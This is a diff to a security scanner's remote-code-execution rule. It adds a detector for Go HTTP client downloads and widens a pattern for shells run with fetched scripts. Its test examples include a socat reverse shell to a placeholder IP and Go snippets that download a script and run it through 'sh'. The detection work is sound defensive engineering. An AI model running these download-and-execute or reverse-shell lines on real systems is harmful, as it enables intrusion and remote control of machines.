@@ -194,13 +194,25 @@ export const s001RemoteCodeExecution: ScanRule = {
         ),
     },
     {
+      // Go through a client of its own (`c := &http.Client{…}; c.Get(url)`): a download as much as `http.Get`.
+      id: 'go-http-client',
+      keywords: ['http.client'],
+      evidenceOnly: true,
+      capabilities: ['download'],
+      reads: ['code'],
+      scope: 'unit',
+      re: /\bhttp\.Client\s{0,4}\{/,
+      requires: /\.(?:Get|Do)\s{0,4}\(/,
+    },
+    {
       // A shell started to read its script from stdin (`exec.Command("sh", "-s")`, `["bash", "-s"]`): with a fetch, the download runs.
       id: 'shell-script-from-stdin',
       keywords: ['"sh"', "'sh'", '"bash"', "'bash'", '"zsh"', "'zsh'"],
       evidenceOnly: true,
       capabilities: ['execute'],
       reads: ['code'],
-      re: /\b(?:exec\.Command(?:Context)?|subprocess\.(?:run|call|Popen|check_call|check_output)|spawn(?:Sync)?|execFile(?:Sync)?|Popen|Command::new)\s{0,4}\((?:\s{0,4}ctx\s{0,4},)?\s{0,4}\[?\s{0,4}["'](?:ba|z|da|k)?sh["']\s{0,4}[,)]\s{0,4}\[?\s{0,4}(?:["']-[a-z]{0,3}s[a-z]{0,3}["']|\.arg\s{0,4}\(\s{0,4}["']-s["'])/,
+      // Or `-c` with a script held in a variable (`exec.Command("sh", "-c", script)`): whatever the program fetched or built.
+      re: /\b(?:exec\.Command(?:Context)?|subprocess\.(?:run|call|Popen|check_call|check_output)|spawn(?:Sync)?|execFile(?:Sync)?|Popen|Command::new)\s{0,4}\((?:\s{0,4}ctx\s{0,4},)?\s{0,4}\[?\s{0,4}["'](?:ba|z|da|k)?sh["']\s{0,4}[,)]\s{0,4}\[?\s{0,4}(?:["']-[a-z]{0,3}s[a-z]{0,3}["']|\.arg\s{0,4}\(\s{0,4}["']-s["']|["']-c["']\s{0,4},\s{0,4}(?:string\s{0,4}\(\s{0,4})?[a-zA-Z_]\w{0,40}\s{0,4}[,)\]])/,
     },
     {
       // pip or npm installing an archive from a host that is not a package registry or a code forge: its setup runs at once.
@@ -337,6 +349,10 @@ export const s001RemoteCodeExecution: ScanRule = {
       // Each exercises a detector no other example does (test/scan/rule-examples.test.ts: every detector fires somewhere).
       'socat TCP:198.51.100.4:4444 EXEC:/bin/bash,pty,stderr,setsid',
       { path: 'scripts/tty.py', text: 'import pty\npty.spawn("/bin/bash")\n' },
+      {
+        path: 'tools/plugins.go',
+        text: 'c := &http.Client{Timeout: 5 * time.Second}\nresp, _ := c.Get(index)\nscript, _ := io.ReadAll(resp.Body)\nexec.Command("sh", "-c", string(script)).Run()\n',
+      },
       {
         path: 'sync/main.go',
         text: 'resp, _ := http.Get(url)\ncmd := exec.Command("sh", "-s")\ncmd.Stdin = resp.Body\ncmd.Run()\n',
